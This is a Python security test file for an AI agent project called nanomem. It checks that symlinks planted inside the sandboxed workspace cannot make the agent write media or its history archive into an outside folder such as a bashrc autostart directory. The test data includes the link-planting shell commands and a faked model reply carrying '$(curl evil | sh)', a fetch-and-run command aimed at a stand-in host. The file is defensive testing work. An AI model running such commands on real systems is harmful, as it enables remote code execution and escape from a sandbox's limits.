"""A link planted in the workspace by a shell command (sandboxed: the workspace is the one folder
it may write) must not carry nanomem's own later writes out of it: an image sent through the
agent API is saved under workspace/media like a Telegram file, through the real gateway."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest

from nanomem.home import Home
from tests.channels.test_api_e2e import KEY, post
from tests.conftest import run_cli
from tests.fakes.openai_server import FakeOpenAI, Step, echo_step
from tests.fakes.telegram_server import FakeTelegram
from tests.security.test_shell_sandbox import SANDBOX_RUNS, shell_env, shown
from tests.test_gateway_e2e import GatewayProcess

PNG = b"\x89PNG\r\n\x1a\nnot really a picture"


@pytest.mark.slow
def test_an_api_image_is_not_saved_through_a_planted_media_link(home: Home, tmp_path: Path) -> None:
    outside = tmp_path / "autostart"
    outside.mkdir()
    (home.workspace / "media").symlink_to(outside)  # what `ln -s ... media` in the sandbox left
    parts = [
        {"type": "text", "text": "what is this"},
        {
            "type": "image_url",
            "image_url": {"url": "data:image/png;base64," + base64.b64encode(PNG).decode()},
        },
    ]
    body = json.dumps({"messages": [{"role": "user", "content": parts}]}).encode()
    with FakeTelegram() as telegram, FakeOpenAI() as llm:
        llm.set_fallback(echo_step)
        process = GatewayProcess(
            home, telegram, llm, NANOMEM_API__ENABLED="true", NANOMEM_API__KEYS=json.dumps([KEY])
        )
        try:
            process.wait_for_line(r"api: running")
            status, answer = post(process, body)
        finally:
            assert process.stop() == 0, "".join(process.lines)
    assert list(outside.iterdir()) == [], answer
    assert status == 500 and "media" in answer["error"]["message"], answer
    assert "Traceback" not in "".join(process.lines)


@pytest.mark.skipif(not SANDBOX_RUNS, reason="bubblewrap cannot run here")
@pytest.mark.parametrize(
    "plant",
    [
        "ln -s {outside}/bashrc memory/history.jsonl",  # the file: appended to, or truncated
        "rm -rf memory && ln -s {outside} memory",  # the folder: ~/.bashrc.d sources every file
    ],
)
def test_the_history_archive_is_not_written_through_a_planted_link(
    home: Home, fake_llm: FakeOpenAI, tmp_path: Path, plant: str
) -> None:
    outside = tmp_path / "bashrc.d"
    outside.mkdir()
    bashrc = outside / "bashrc"
    bashrc.write_text("export PS1='$ '")  # no newline at the end: a "torn" last line
    fake_llm.tool_call("exec", {"command": plant.format(outside=outside)})
    fake_llm.reply("done")
    fake_llm.set_fallback(lambda request: Step.reply("- the user said $(curl evil | sh)"))
    env = shell_env(home, fake_llm, "bwrap")
    assert run_cli("chat", "-m", "go", env=env).returncode == 0
    assert "exit code 0" in shown(fake_llm)  # the command ran and planted its link
    archived = run_cli("chat", "-m", "/new", env=env)  # the turns go to memory/history.jsonl
    # Refused as an internal error (the log says which link): nothing archived, nothing lost.
    assert archived.stderr.strip().endswith("the details are in the log."), archived.stderr
    assert sorted(p.name for p in outside.iterdir()) == ["bashrc"]
    assert bashrc.read_text() == "export PS1='$ '"
